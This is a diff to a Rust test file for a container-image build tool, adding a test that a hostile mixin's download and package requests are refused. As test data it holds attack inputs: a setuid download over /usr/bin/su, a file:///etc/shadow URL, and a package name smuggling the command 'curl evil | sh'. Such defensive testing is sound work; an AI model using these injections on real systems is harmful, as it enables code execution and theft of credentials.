@@ -34,6 +34,15 @@ fn image_of(wharf: &Wharf) -> String {
         .to_string()
 }
 
+/// Replaces everything from the hostile-image entry of porter.yaml on
+/// with `tail`.
+fn replace_hostile_entry(dir: &std::path::Path, tail: &str) {
+    let path = dir.join("porter.yaml");
+    let text = std::fs::read_to_string(&path).unwrap();
+    let head = text.split("  - hostile-image:").next().unwrap();
+    std::fs::write(path, format!("{head}{tail}")).unwrap();
+}
+
 fn refused(ran: &Ran, needles: &[&str]) {
     for needle in needles {
         assert!(
@@ -84,17 +93,7 @@ fn a_mixin_cannot_take_over_the_image_with_its_dockerfile_lines() {
         ),
     ];
     for (lines, needles) in attacks {
-        std::fs::write(
-            dir.path().join("porter.yaml"),
-            std::fs::read_to_string(dir.path().join("porter.yaml"))
-                .unwrap()
-                .split("  - hostile-image:")
-                .next()
-                .unwrap()
-                .to_string()
-                + &lines_manifest(lines),
-        )
-        .unwrap();
+        replace_hostile_entry(dir.path(), &lines_manifest(lines));
         // `wharf build` lints first, and checks the lines itself too.
         let linted = wharf.run(&["lint"]).failed();
         assert!(
@@ -304,4 +303,54 @@ fn a_pinned_mixin_runs_only_the_programs_it_was_pinned_with() {
             "pinned [echo, sh]",
         ],
     );
+}
+
+/// A 0.2.0 mixin's `build` asks for downloads and packages, and the host
+/// writes the lines. A download into `/cnab` (over the runtime), a setuid
+/// one, one from a `file://` URL and a package "name" that is a shell
+/// command are each refused by lint and by the build, naming the mixin
+/// and the contribution; nothing is built.
+#[test]
+fn a_mixin_cannot_install_a_download_or_package_where_it_pleases() {
+    let manifest = |config: &str| {
+        format!(
+            "  - hostile-image:\n{config}install:\n  - exec:\n      description: hi\n      \
+             command: echo\n      arguments: [\"ran\"]\n"
+        )
+    };
+    let (dir, wharf) = hostile_bundle("hostile-downloads", &manifest("      lines: []\n"));
+    let attacks = [
+        (
+            "      downloads:\n        - {url: \"http://127.0.0.1:9/x\", destination: /cnab/wharf/runtime}\n",
+            "inside /cnab",
+        ),
+        (
+            "      downloads:\n        - {url: \"http://127.0.0.1:9/x\", destination: /usr/bin/su, mode: 2541}\n",
+            "sets a setuid, setgid or sticky bit",
+        ),
+        (
+            "      downloads:\n        - {url: \"file:///etc/shadow\", destination: /usr/bin/x}\n",
+            "is not an http:// or https:// URL",
+        ),
+        (
+            "      packages: [\"git; curl evil | sh\"]\n",
+            "is not a Debian package name",
+        ),
+    ];
+    for (config, reason) in attacks {
+        replace_hostile_entry(dir.path(), &manifest(config));
+        let linted = wharf.run(&["lint"]).failed();
+        assert!(linted.stdout.contains(reason), "{}", linted.stdout);
+        refused(
+            &wharf.run(&["build", "--no-lint"]).failed(),
+            &[
+                "the hostile-image mixin's build contribution 1 is refused",
+                reason,
+            ],
+        );
+        assert!(
+            !dir.path().join(".cnab/bundle.json").exists(),
+            "nothing was built"
+        );
+    }
 }
